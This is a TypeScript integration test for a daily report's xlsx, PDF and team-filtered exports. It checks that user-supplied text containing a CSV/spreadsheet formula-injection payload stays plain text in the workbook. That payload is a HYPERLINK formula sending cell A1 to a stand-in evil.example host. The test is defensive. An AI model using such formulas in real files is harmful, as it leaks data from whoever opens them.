import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createBrowse } from '../../src/crawlers/support/browser.ts';
import { findBrowser } from '../../src/crawlers/support/browser-process.ts';
import { createFetch } from '../../src/crawlers/support/safe-fetch.ts';
import { readXlsx } from '../../src/pipeline/imports/read-xlsx.ts';
import { XlsxParts } from '../../src/pipeline/imports/xlsx-parts.ts';
import { type Answer, openApi, type TestApi } from '../support/api.ts';
import { embeddedRecords, type TestRecords } from '../support/databases.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"mạng chậm quá")';

/** The names of all elements in a workbook's sheets, and their words. */
async function contentOf(file: Buffer): Promise<{ elements: Set<string>; words: string }> {
  const parts = await XlsxParts.open(file);
  const elements = new Set<string>();
  let words = '';
  const handler = {
    open: (name: string) => void elements.add(name),
    text: (text: string) => {
      words += text;
    },
  };
  for (let sheet = 1; parts.has(`xl/worksheets/sheet${sheet}.xml`); sheet += 1)
    await parts.readWhole(`xl/worksheets/sheet${sheet}.xml`, handler);
  if (parts.has('xl/sharedStrings.xml')) await parts.readWhole('xl/sharedStrings.xml', handler);
  return { elements, words };
}

describe('the daily report as a file', () => {
  let records: TestRecords;
  let api: TestApi;
  let source: string;
  let session: string;
  let team: string;
  const http = createFetch();
  const chromium = createBrowse({ visits: http.visits });

  beforeAll(async () => {
    records = await embeddedRecords();
    api = await openApi(records, { services: { print: chromium.print } });
    session = (await api.person('Hà', 'administrator')).session;
    team = (await api.ask('GET', '/api/teams')).body.items[0].id;
    source = (await api.ask('POST', '/api/sources', { body: { kind: 'import', name: '=1+1', team } })).body.id;
    const publishedAt = '2026-03-04T08:00:00+07:00';
    const body = { source, externalId: 'a', text: FORMULA, publishedAt, author: { name: 'Lan' } };
    await api.ask('POST', '/api/mentions', { body });
    const { id } = (await api.ask('GET', '/api/mentions')).body.items[0];
    await api.ask('POST', `/api/mentions/${id}/ticket`);
    await api.ask('POST', `/api/mentions/${id}/correction`, { body: { complaint: true, topics: ['network'] } });
  });
  afterAll(async () => {
    await chromium.close();
    await http.close();
    await api?.close();
    await records?.close();
  });

  const get = (format: string, more = ''): Promise<Answer> =>
    api.ask('GET', `/api/reports/daily?date=2026-03-04&format=${format}${more}`);
  const bytesOf = async (format: string) => {
    const response = await fetch(`${api.url}/api/reports/daily?date=2026-03-04&format=${format}`, {
      headers: { cookie: `langnghe=${session}` },
    });
    return { response, bytes: Buffer.from(await response.arrayBuffer()) };
  };

  it('is a workbook with the figures of the report, in which nobody’s words are a formula', async () => {
    const report = (await get('json')).body;
    const { response, bytes } = await bytesOf('xlsx');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="bao-cao-2026-03-04.xlsx"');
    expect(bytes.subarray(0, 2).toString()).toBe('PK');
    const { elements, words } = await contentOf(bytes);
    expect(elements).toContain('c');
    expect(elements).not.toContain('f');
    expect(words).toContain('=HYPERLINK("http://evil.example/?"&A1,"mạng chậm quá")');
    expect(report.totals.complaints.count).toBe(1);
    const rows: unknown[] = [];
    for await (const row of readXlsx(bytes)) rows.push(row);
    expect(JSON.stringify(rows)).toContain('"Phản ánh","2026-03-04":"1"');
  });

  it.skipIf(findBrowser() === undefined)('is a PDF of A4 pages with their numbers', async () => {
    const { response, bytes } = await bytesOf('pdf');
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
    expect(bytes.toString('latin1')).toMatch(/\/MediaBox\s*\[0 0 59[45]\.\d+ 84[12]\.\d+\]/);
  });

  it('is of one team and those below it, if that is asked for', async () => {
    const other = await api.ask('POST', '/api/teams', { body: { name: 'Khác' } });
    expect((await get('json', `&team=${team}`)).body.totals.complaints.count).toBe(1);
    expect((await get('json', `&team=${other.body.id}`)).body.totals.complaints.count).toBe(0);
    expect((await get('json', '&team=00000000-0000-4000-8000-000000000000')).status).toBe(404);
  });
});
